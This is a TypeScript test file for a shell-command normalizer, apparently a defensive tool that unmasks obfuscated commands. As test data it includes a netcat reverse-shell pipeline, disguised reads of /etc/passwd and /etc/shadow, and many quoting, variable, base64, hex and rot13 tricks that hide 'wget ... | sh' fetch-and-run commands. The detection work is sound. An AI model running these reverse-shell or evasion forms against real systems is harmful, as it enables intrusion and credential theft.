// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are shell variables and lookups.
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { commandsMax, normalizeShell, shellTextMax, workMax } from './shell.ts'

const commandsOf = (text: string): readonly string[] => normalizeShell(text).commands
const lineOf = (text: string): string => normalizeShell(text).line
const base64 = (text: string): string => Buffer.from(text).toString('base64')

test('a line is cut into simple commands at every operator and substitution', () => {
  expect(commandsOf('a 1; b 2 && c 3 || d 4 | e 5 & f 6\ng $(h `i`) <(j) ( k; { l; } )')).toEqual([
    'a 1',
    'b 2',
    'c 3',
    'd 4',
    'e 5',
    'f 6',
    'i',
    'h $(i)',
    'j',
    'g $(h $(i)) <(j)',
    'k',
    'l',
  ])
})

test('the line keeps its operators, single spaced', () => {
  expect(lineOf('cat  /tmp/f|sh -i 2>&1|nc 192.0.2.1 80 >/tmp/f')).toBe(
    'cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 80 > /tmp/f',
  )
  expect(lineOf('x&&y||z;w&')).toBe('x && y || z ; w &')
})

test.each([
  ["c''at /etc/passwd", 'cat /etc/passwd'],
  ['w\\get http://x', 'wget http://x'],
  ['"who"am\'i\'', 'whoami'],
  ["$'\\x77\\147et' http://x", 'wget http://x'],
  ['cat$IFS/etc/passwd', 'cat /etc/passwd'],
  ['cat${IFS}/etc/passwd', 'cat /etc/passwd'],
  ['cat$IFS$9/etc/passwd', 'cat /etc/passwd'],
  ['{cat,/etc/passwd}', 'cat /etc/passwd'],
  ['{c""at,/etc/{passwd,shadow}}', 'cat /etc/passwd /etc/shadow'],
  ['a=wg;b=et;$a$b http://x', 'wget http://x'],
  ['a=xwgetx;${a:1:4} http://x', 'wget http://x'],
  ['a=wXgXet; ${a//X/} http://x', 'wget http://x'],
  ['w$@g${x}et http://x', 'wget http://x'],
  ['${none:-wget} http://x', 'wget http://x'],
  ['cat ${PATH:0:1}etc${PATH:0:1}passwd', 'cat /etc/passwd'],
  ['$(echo wget) http://x', 'wget http://x'],
  ['`printf "%s%s" wg et` http://x', 'wget http://x'],
  ['$(which curl) http://x', 'curl http://x'],
  ['/bin//sh x', 'sh x'],
  ['/usr/./bin/../bin/wget x', 'wget x'],
  ['cat /etc//./passwd', 'cat /etc/passwd'],
  ['wget \\\n http://x', 'wget http://x'],
  ["it's fine; whoami", 'whoami'],
  ['"unclosed; whoami', 'whoami'],
])('%s runs %s', (text, command) => {
  expect(commandsOf(text)).toContain(command)
})

test.each([
  ['sudo wget x'],
  ['sudo -u root -E wget x'],
  ['sudo -uroot --chdir /tmp wget x'],
  ['sudo -- wget x'],
  ['doas -u root wget x'],
  ['env -i A=1 B=2 wget x'],
  ['A=1 wget x'],
  ['busybox wget x'],
  ['/bin/busybox wget x'],
  ['nohup wget x &'],
  ['time -p wget x'],
  ['exec wget x'],
  ['command wget x'],
  ['builtin command wget x'],
  ['nice -n 19 wget x'],
  ['timeout -s KILL 5 wget x'],
  ['setsid stdbuf -oL wget x'],
  ['sudo env A=1 timeout 5 nice nohup busybox wget x'],
  ['echo x | xargs -n 1 wget'],
  ['find . -name y -exec wget x \\;'],
  ['if true; then wget x; fi'],
  ['! wget x'],
])('behind its prefix, %s is wget x', (text) => {
  expect(commandsOf(text)).toContain('wget x')
})

test.each([
  ["sh -c 'wget x'"],
  ['bash -xc "wget x"'],
  ["bash -o pipefail -c 'wget x'"],
  ['sh -c "sh -c \'wget x\'"'],
  ['eval wget x'],
  ["su - www -c 'wget x'"],
  ["trap 'wget x' EXIT"],
  ["echo 'wget x' | sh"],
  ["bash <<< 'wget x'"],
  ['sh <<EOF\nwget x\nEOF\n'],
  [`echo ${base64('wget x')} | base64 -d | sh`],
  [`echo ${base64('wget x')}|base64 --decode|sudo bash -s`],
  [`base64 -d <<< ${base64('wget x')}`],
  [`eval "$(echo ${base64('wget x')} | base64 -di)"`],
  [`bash -c "$(base64 -d <<<${base64('wget x')})"`],
  [`bash <(echo ${base64('wget x')} | openssl base64 -d)`],
  [`echo ${base64(`echo ${base64('wget x')} | base64 -d | sh`)} | base64 -d | sh`],
  [`(echo ${base64('wget x')}) | base64 -d | sh`],
  ["printf '\\x77\\x67\\x65\\x74 x' | sh"],
  ["echo -e '\\167get x' | ash"],
  [`echo ${Buffer.from('wget x').toString('hex')} | xxd -r -p | sh`],
  ["echo 'x tegw' | rev | sh"],
  ["echo 'jtrg k' | tr 'a-z' 'n-za-m' | sh"],
])('unwrapped, %s is wget x', (text) => {
  expect(commandsOf(text)).toContain('wget x')
})

test('what is quoted is data: it neither separates nor runs', () => {
  expect(commandsOf('echo "a; wget x | sh"')).toEqual(["echo 'a; wget x | sh'"])
  expect(commandsOf("grep '$(wget x)' f")).toEqual(["grep '$(wget x)' f"])
  expect(commandsOf('ls # ; wget x')).toEqual(['ls'])
  expect(commandsOf('cat <<EOF > f\nwget x\nEOF\nid')).toEqual(['cat << EOF > f', 'id'])
})

test('binary output of a decoder is not taken for a script', () => {
  expect(commandsOf('echo f0VMRgIBAQA= | base64 -d | sh')).toHaveLength(3)
})

test('a prefix that only asks runs nothing', () => {
  expect(commandsOf('sudo -l')).toEqual(['sudo -l'])
  expect(commandsOf('command -v wget')).toEqual(['command -v wget'])
})

const pieces = fc.constantFrom(
  ...['$(', ')', '`', '"', "'", '\\', '{', ',', '}', '${', '$', 'a=', '$a', ';', '|', '&', '<<<'],
  ...['<(', '>', '\n', ' ', 'sh -c ', 'eval ', 'echo ', 'base64 -d', 'printf ', '%s', '\\x41', '#'],
  ...[
    'aWQ=',
    'x',
    '/bin/',
    '//',
    '..',
    '<<E',
    '$((',
    '))',
    'sudo ',
    'xargs ',
    '\u0000',
    'é',
    '\uE000',
  ],
)
const hostile = fc.array(pieces, { maxLength: 400 }).map((parts) => parts.join(''))
const lines = fc.oneof(hostile, fc.string({ maxLength: 300, unit: 'binary' }))

test('any text gives a form, within its bounds', () => {
  fc.assert(
    fc.property(lines, (text) => {
      const { line, commands, work } = normalizeShell(text)
      expect(work).toBeLessThanOrEqual(workMax)
      expect(commands.length).toBeLessThanOrEqual(commandsMax)
      expect(line.length).toBeLessThanOrEqual(4 * shellTextMax)
    }),
    { numRuns: 1_500 },
  )
})

test('a command in normal form is its own normal form', () => {
  const word = fc.string({ unit: fc.constantFrom(...'ab/.-;|&"\'\\<>() $#{},=~*'), maxLength: 8 })
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 5 }), (words) => {
      const text = words.map((each) => `'${each.replaceAll("'", `'\\''`)}'`).join(' ')
      for (const command of commandsOf(`cmd ${text}`)) {
        if (command.includes('$')) continue
        expect(commandsOf(command)).toContain(command)
      }
    }),
    { numRuns: 500, examples: [[['{,}', '']], [['{a,b}']]] },
  )
})

test('work grows with the length, whatever the nesting', () => {
  const shapes = [
    '$(',
    '`',
    '"',
    "'",
    '${',
    '{a,',
    '$a',
    'a=$a$a;',
    '<<x\n',
    'sh -c "',
    '((',
    '\\',
    '<(',
  ]
  for (const shape of shapes) {
    const text = (length: number): string => shape.repeat(Math.ceil(length / shape.length))
    const small = normalizeShell(text(1_000)).work
    const large = normalizeShell(text(16_000)).work
    expect(large, shape).toBeLessThanOrEqual(32 * small + 1_000)
  }
})

test('a line beyond the limit is read up to it', () => {
  const { commands } = normalizeShell(`${' '.repeat(shellTextMax - 4)}id; wget x`)
  expect(commands).toEqual(['id'])
})
